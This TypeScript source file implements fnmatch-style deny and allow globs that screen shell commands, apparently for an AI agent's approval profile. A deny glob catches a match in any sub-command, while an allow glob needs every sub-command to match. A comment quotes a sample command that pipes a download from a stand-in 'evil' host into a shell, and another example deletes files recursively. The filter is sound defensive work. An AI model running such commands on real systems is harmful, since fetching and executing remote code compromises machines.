// The Profile's `approvals.deny` and `approvals.allow` globs, with Python fnmatch's semantics as
// Hermes uses them (`*` also matches `/` and spaces, `?` one character, `[…]`/`[!…]` sets),
// case-insensitive, matched against the whole command with its whitespace collapsed. picomatch
// and minimatch implement path globs (`*` stops at `/`), which would make `rm *` miss `rm /x`.
//
// Hostile by default: a deny glob matches if the whole line *or any simple command in it* matches
// (`ls; rm -rf x` cannot hide from `rm *`), and an allow glob counts only when *every* simple
// command of the line matches some allow glob (`git status; curl evil | sh` is not `git status*`).
import { collapse, programOf, simpleCommands } from './shell-words.js';

const cache = new Map<string, RegExp>();

/** fnmatch.translate, our own: the glob as an anchored, case-insensitive regular expression. */
export function globToRegExp(glob: string): RegExp {
  let re = cache.get(glob);
  if (re) return re;
  let out = '';
  for (let i = 0; i < glob.length; i++) {
    const c = glob[i]!;
    if (c === '*') out += '.*';
    else if (c === '?') out += '.';
    else if (c === '[') {
      const close = glob.indexOf(']', glob[i + 1] === '!' || glob[i + 1] === '^' ? i + 3 : i + 2);
      if (close < 0) { out += '\\['; continue; }
      let set = glob.slice(i + 1, close);
      if (set.startsWith('!')) set = `^${set.slice(1)}`;
      out += `[${set.replace(/\\/g, '\\\\')}]`;
      i = close;
    } else out += c.replace(/[.+^${}()|\\/]/g, '\\$&');
  }
  re = new RegExp(`^${out}$`, 'is');
  if (cache.size > 1_000) cache.clear();
  cache.set(glob, re);
  return re;
}

const matchesAny = (text: string, globs: readonly string[]) => globs.find((g) => globToRegExp(collapse(g)).test(text));

/** The first deny glob the line or any command in it matches. */
export function deniedBy(command: string, deny: readonly string[]): string | undefined {
  if (!deny.length) return undefined;
  const whole = matchesAny(collapse(command), deny);
  if (whole) return whole;
  for (const cmd of simpleCommands(command)) {
    // `/usr/bin/git push` is `git push` to a deny rule, as it is to the hardline blocklist.
    const hit = matchesAny(cmd.text, deny) ?? matchesAny([programOf(cmd), ...cmd.words.slice(1)].join(' '), deny);
    if (hit) return hit;
  }
  return undefined;
}

/** True when every simple command of the line (substitutions included) matches an allow glob. */
export function allowedBy(command: string, allow: readonly string[]): boolean {
  if (!allow.length) return false;
  const cmds = simpleCommands(command);
  if (!cmds.length) return false;
  // A redirection is not part of the words a glob sees: a command that writes a file is checked as usual.
  return cmds.every((c) => c.writes.length === 0 && matchesAny(c.text, allow) !== undefined);
}
